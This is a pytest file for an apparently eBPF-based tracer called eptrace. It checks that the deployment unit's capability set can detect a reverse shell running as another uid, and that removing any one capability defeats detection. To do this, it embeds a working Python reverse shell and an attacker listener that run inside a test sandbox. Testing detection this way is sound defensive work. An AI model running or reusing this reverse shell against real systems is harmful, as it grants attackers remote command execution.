"""deploy/eptrace.service's capabilities, in the real kernel: the tracer under exactly the unit's
CapabilityBoundingSet sees a reverse shell of another uid (which takes /proc of that uid), and one
capability fewer (CAP_SYS_PTRACE, CAP_DAC_READ_SEARCH, CAP_NET_ADMIN) loses it; /metrics' per-episode
series, and [metrics] per_episode = false.

`eptrace watch` stands in for `eptrace daemon` (issue 11, built beside this): it loads the same probes and
reads the same /proc files for registered episodes. The unit itself is not started: systemd is not PID 1
on the test VMs (README, "What was not tested").
"""
from __future__ import annotations

import re
import secrets
import shutil
import subprocess
import textwrap
import time
import urllib.request

import pytest

import harness
from eptrace_helpers import (REPO_ROOT, alerts, dump, get, kill, read_docs, run_eptrace, select, start_eptrace,
                             stop, wait_for_docs, wait_until)
from harness import HOST_IP, PYTHON, SANDBOX_IP
from support import free_port, require

UNIT = REPO_ROOT / "deploy" / "eptrace.service.in"
NOBODY = 65534
PORT = 8080


def unit_capabilities() -> list[str]:
    """The unit's CapabilityBoundingSet as setpriv names them (bpf, perfmon, ...)."""
    (line,) = re.findall(r"^CapabilityBoundingSet=(.*)$", UNIT.read_text(), re.M)
    return [cap.removeprefix("CAP_").lower() for cap in line.split()]


def with_capabilities(caps: list[str]) -> list[str]:
    """argv prefix: root with only these capabilities (the bounding set is all a root exec can have)."""
    setpriv = shutil.which("setpriv")
    require(setpriv, "setpriv is not installed (util-linux)")
    return [setpriv, "--bounding-set", "-all," + ",".join("+" + c for c in caps), "--inh-caps", "-all", "--"]


# The attacker's listener on the test host: sends one command to the shell that connects from the
# sandbox (after a pause), and prints what comes back once the shell hangs up. (Readiness probes come from elsewhere: ignored.)
LISTENER = textwrap.dedent(f'''
    import socket, time
    server = socket.create_server(("{HOST_IP}", {PORT}))
    print("listening", flush=True)
    while True:
        conn, addr = server.accept()
        if addr[0] == "{SANDBOX_IP}":
            break
        conn.close()
    time.sleep(1.5)             # the shell is there to be seen before the command makes it exit
    conn.settimeout(20)
    conn.sendall(b"echo pwned-$((6*7)); exit\\n")
    buf = b""
    while data := conn.recv(4096):
        buf += data
    print("got", buf.hex(), flush=True)
''')

# A reverse shell in the sandbox, as uid 65534: its stdio on the connection, then sh.
REVERSE_SHELL = textwrap.dedent(f'''
    import os, socket, subprocess
    s = socket.create_connection(("{HOST_IP}", {PORT}), timeout=5)
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    subprocess.call(["/bin/sh", "-i"])
''')


def reverse_shell_as_nobody(net, cgroup) -> None:
    with harness.python_server(net, LISTENER, PORT, banner="listening\n") as peer:
        proc = harness.spawn_in_cgroup(cgroup, net.sandbox_prefix() + [
            "setpriv", "--reuid", str(NOBODY), "--regid", str(NOBODY), "--clear-groups", PYTHON, "-c",
            REVERSE_SHELL], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            proc.wait(timeout=60)
        finally:
            kill(proc)
        got = wait_until(lambda: [ln for ln in peer.stdout if ln.startswith("got ")], 30, "the shell's answer")
    assert b"pwned-42" in bytes.fromhex(got[0].split()[1]), got


def scrape(port: int, want: str) -> str:
    def body():
        try:
            text = urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=5).read().decode()
        except OSError:
            return None
        return text if want in text else None
    return wait_until(body, 30, f"a scrape of /metrics with {want}")


def sample(body: str, series: str) -> float:
    (line,) = [ln for ln in body.splitlines() if ln.startswith(series + " ")]
    return float(line.split()[-1])


def watch(events, state, metrics_port: int, prefix=(), config=None) -> subprocess.Popen:
    args = ["watch", "--output", f"file:{events}", "--stats-interval", 0.25, "--metrics-listen",
            f"127.0.0.1:{metrics_port}"] + (["--config", config] if config else [])
    return start_eptrace(*args, state_dir=state, prefix=prefix, stderr=subprocess.PIPE)


def tracing_one_episode(docs: list[dict]) -> list[dict]:
    return [d for d in docs if get(d, "event.kind") == "metric" and get(d, "eptrace.stats.episodes") == 1]


def traced_reverse_shell(net, tmp_path, episode_cgroup, caps: list[str] | None, config=None):
    """A registered episode's reverse shell (as uid 65534) under watch, run with only caps if given:
    (documents, a scrape of /metrics after them, the episode id)."""
    token = secrets.token_hex(3)
    eid, state, events = f"ep-deploy-{token}", tmp_path / "state", tmp_path / "events.ndjson"
    cgroup = episode_cgroup(f"deploy-{token}")
    assert run_eptrace("episode", "add", "--id", eid, "--cgroup", cgroup, state_dir=state).returncode == 0
    metrics_port = free_port()
    tracer = watch(events, state, metrics_port, prefix=with_capabilities(caps) if caps else (), config=config)
    try:
        wait_for_docs(events, tracing_one_episode, 60, "watch tracing the episode")
        reverse_shell_as_nobody(net, cgroup)
        wait_for_docs(events, lambda docs: select(docs, "connection_attempted", port=PORT, episode=eid), 30,
                      "the sandbox's connection")
        time.sleep(1.0)      # what /proc showed is in by now: an alert that is missing stays missing
        body = scrape(metrics_port, "eptrace_records_received_total")
        assert stop(tracer) == 0, tracer.stderr.read()
    finally:
        kill(tracer)
    return read_docs(events), body, eid


def test_the_units_capabilities_trace_a_sandbox_of_another_uid(net, tmp_path, episode_cgroup):
    """The unit's set, without CAP_SYS_ADMIN or CAP_DAC_OVERRIDE, sees a reverse shell of uid 65534: its
    stdio on a socket is read from /proc/<pid>/fd (CAP_DAC_READ_SEARCH for the 0500 directory,
    CAP_SYS_PTRACE for the links). CAP_KILL (SIGCONT to a held exec) is not shown here: whether an exec
    is held depends on the argv pages, which the test cannot choose."""
    docs, body, eid = traced_reverse_shell(net, tmp_path, episode_cgroup, unit_capabilities())
    connect = select(docs, "connection_attempted", port=PORT, episode=eid)[0]
    assert get(connect, "process.executable") == PYTHON, dump([connect])
    shells = [a for a in alerts(docs, "reverse_shell") if get(a, "labels.episode_id") == eid]
    assert len(shells) == 1, dump(alerts(docs))
    assert sample(body, f'eptrace_episode_connections_total{{episode="{eid}"}}') >= 1, body
    assert sample(body, f'eptrace_episode_alerts_total{{episode="{eid}"}}') >= 1, body


@pytest.mark.parametrize("missing", ["sys_ptrace", "dac_read_search"])
def test_without_proc_access_the_reverse_shell_goes_unseen(net, tmp_path, episode_cgroup, missing):
    """Each of the two /proc capabilities is needed: one fewer, and the shell's socket stdio is not seen
    (the connection still is)."""
    caps = [c for c in unit_capabilities() if c != missing]
    docs, _, eid = traced_reverse_shell(net, tmp_path, episode_cgroup, caps)
    assert select(docs, "connection_attempted", port=PORT, episode=eid)
    assert not alerts(docs, "reverse_shell"), dump(alerts(docs))


def test_without_cap_net_admin_the_probes_do_not_attach(tmp_path, episode_cgroup):
    """The capability check has teeth: one capability fewer than the unit's, and nothing is traced."""
    token = secrets.token_hex(3)
    eid, state, events = f"ep-nonet-{token}", tmp_path / "state", tmp_path / "events.ndjson"
    cgroup = episode_cgroup(f"nonet-{token}")
    assert run_eptrace("episode", "add", "--id", eid, "--cgroup", cgroup, state_dir=state).returncode == 0
    caps = [c for c in unit_capabilities() if c != "net_admin"]
    tracer = watch(events, state, free_port(), prefix=with_capabilities(caps))
    try:
        stderr = wait_until(lambda: tracer.poll() is not None and tracer.stderr.read(), 120,
                            "watch to exit without CAP_NET_ADMIN")
    finally:
        kill(tracer)
    # The compiling child loads every program at once: the first cgroup or sock_ops program is refused.
    assert tracer.returncode == 5 and "cannot load a program" in stderr, (tracer.returncode, stderr)
    assert not [d for d in read_docs(events) if get(d, "labels.episode_id") == eid]


def test_per_episode_series_can_be_turned_off(net, tmp_path, episode_cgroup):
    config = tmp_path / "eptrace.toml"
    config.write_text("[metrics]\nper_episode = false\n")
    docs, body, eid = traced_reverse_shell(net, tmp_path, episode_cgroup, None, config=config)
    assert [a for a in alerts(docs, "reverse_shell") if get(a, "labels.episode_id") == eid], dump(alerts(docs))
    assert sample(body, "eptrace_alerts_total") >= 1, body
    assert "episode=" not in body and "eptrace_episode_connections_total" not in body, body
